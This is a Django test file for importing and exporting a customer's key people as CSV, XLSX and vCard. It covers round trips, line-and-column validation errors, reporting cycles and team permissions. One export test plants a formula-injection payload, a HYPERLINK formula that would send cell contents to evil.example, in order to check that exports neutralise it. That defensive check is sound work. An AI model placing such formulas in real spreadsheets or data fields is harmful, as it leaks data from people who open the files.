"""Import and export of key people (CSV, XLSX, vCard): round trips and all-or-nothing."""

from __future__ import annotations

import csv
import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from firstchoice.people.models import KeyPerson
from tests.people.base import PeopleTestCase


class ExportTest(PeopleTestCase):
    def test_it_exports_csv_with_reports_to_names(self) -> None:
        self.login(self.bob)
        r = self.client.get(reverse("people-export", args=["AL001", "csv"]))
        self.assertEqual(r.status_code, 200)
        text = r.content.decode("utf-8-sig")
        self.assertIn("name,department,title,level", text.splitlines()[0])
        self.assertIn("Wang Fang,Purchasing,Buyer,site,3,yes,Li Na", text)

    def test_it_exports_xlsx(self) -> None:
        self.login(self.alice)
        r = self.client.get(reverse("people-export", args=["AL001", "xlsx"]))
        sheet = load_workbook(io.BytesIO(r.content)).active
        rows = list(sheet.iter_rows(values_only=True))
        self.assertEqual(rows[0][0], "name")
        self.assertEqual(len(rows), 4)

    def test_it_exports_formula_like_text_as_inert_text(self) -> None:
        formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        KeyPerson.objects.filter(pk=self.wang.pk).update(
            name=formula, title="+1 buyer", pains="@SUM(A1)", department="-Purchasing"
        )
        self.login(self.alice)
        r = self.client.get(reverse("people-export", args=["AL001", "xlsx"]))
        sheet = load_workbook(io.BytesIO(r.content)).active
        cells = {c.value: c for row in sheet.iter_rows() for c in row}
        for text in (formula, "+1 buyer", "@SUM(A1)", "-Purchasing"):
            self.assertEqual(cells[text].data_type, "s", text)
        r = self.client.get(reverse("people-export", args=["AL001", "csv"]))
        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
        wang = next(row for row in rows if row[0].endswith(formula))
        self.assertEqual(wang[0], "'" + formula)
        self.assertEqual(wang[1], "'-Purchasing")
        self.assertEqual(wang[2], "'+1 buyer")
        self.assertEqual(wang[10], "'@SUM(A1)")

    def test_it_exports_vcards(self) -> None:
        self.login(self.alice)
        r = self.client.get(reverse("people-export", args=["AL001", "vcf"]))
        text = r.content.decode()
        self.assertEqual(text.count("BEGIN:VCARD"), 3)
        self.assertIn("FN:Wang Fang", text)
        self.assertIn("X-FIRSTCHOICE-REPORTS-TO:Li Na", text)

    def test_it_hides_from_another_team_and_knows_no_other_format(self) -> None:
        self.login(self.charlie)
        self.assertEqual(
            self.client.get(reverse("people-export", args=["AL001", "csv"])).status_code, 404
        )
        self.login(self.alice)
        self.assertEqual(
            self.client.get(reverse("people-export", args=["AL001", "pdf"])).status_code, 404
        )


class ImportTest(PeopleTestCase):
    def upload(self, name: str, content: bytes, code: str = "AL001") -> object:
        f = SimpleUploadedFile(name, content)
        return self.client.post(reverse("people-import", args=[code]), {"file": f})

    def test_it_imports_csv_with_bosses_in_any_order(self) -> None:
        self.login(self.alice)
        csv = (
            b"name,department,level,reports_to,engagement,coach,email\n"
            b"Worker Ma,Plant,shop_floor,Plant Boss,4,,ma@example.com\n"
            b"Plant Boss,Plant,site,Chen Wei,2,yes,\n"
            b"Li Na,Purchasing,division,Chen Wei,1,,li@example.com\n"
        )
        r = self.upload("people.csv", csv)
        self.assertEqual(r.status_code, 302)
        ma = KeyPerson.objects.get(name="Worker Ma")
        self.assertEqual(ma.reports_to.name, "Plant Boss")
        self.assertTrue(KeyPerson.objects.get(name="Plant Boss").is_coach)
        self.li.refresh_from_db()
        self.assertEqual(self.li.email, "li@example.com")  # matched by name: updated

    def test_it_refuses_the_whole_file_naming_line_and_column(self) -> None:
        self.login(self.alice)
        before = KeyPerson.objects.count()
        csv = (
            b"name,level,email,engagement,reports_to\n"
            b"Good One,site,good@example.com,2,\n"
            b"Bad One,moon,bad,7,Nobody\n"
        )
        r = self.upload("people.csv", csv)
        self.assertEqual(r.status_code, 422)
        body = r.content.decode()
        self.assertIn("Line 3, column level", body)
        self.assertIn("Line 3, column engagement", body)
        self.assertIn("Line 3, column reports_to", body)
        self.assertEqual(KeyPerson.objects.count(), before)
        r = self.upload("people.csv", b"name,email\nOk,bad-email\n")
        self.assertIn("Line 2, column email", r.content.decode())
        self.assertEqual(KeyPerson.objects.count(), before)

    def test_it_refuses_a_cycle_in_the_file_and_keeps_nothing(self) -> None:
        self.login(self.alice)
        r = self.upload("people.csv", b"name,reports_to\nA,B\nB,A\n")
        self.assertEqual(r.status_code, 422)
        self.assertIn("circle", r.content.decode())
        self.assertFalse(KeyPerson.objects.filter(name__in=["A", "B"]).exists())

    def test_it_refuses_an_unknown_column(self) -> None:
        self.login(self.alice)
        r = self.upload("people.csv", b"name,shoe_size\nA,42\n")
        self.assertIn("column shoe_size", r.content.decode())

    def test_it_round_trips_xlsx_and_vcard(self) -> None:
        self.login(self.alice)
        xlsx = self.client.get(reverse("people-export", args=["AL001", "xlsx"])).content
        vcf = self.client.get(reverse("people-export", args=["AL001", "vcf"])).content
        target = self.alice_customers[1].code
        self.assertEqual(self.upload("p.xlsx", xlsx, target).status_code, 302)
        copied = KeyPerson.objects.get(customer__code=target, name="Wang Fang")
        self.assertEqual(copied.reports_to.name, "Li Na")
        self.assertTrue(copied.is_coach)
        target = self.alice_customers[2].code
        self.assertEqual(self.upload("p.vcf", vcf, target).status_code, 302)
        copied = KeyPerson.objects.get(customer__code=target, name="Wang Fang")
        self.assertEqual((copied.department, copied.reports_to.name), ("Purchasing", "Li Na"))

    def test_it_forbids_read_only_and_other_teams(self) -> None:
        self.login(self.bob)
        self.assertEqual(self.upload("p.csv", b"name\nX\n").status_code, 403)
        self.login(self.charlie)
        self.assertEqual(self.upload("p.csv", b"name\nX\n").status_code, 404)
        self.assertFalse(KeyPerson.objects.filter(name="X").exists())
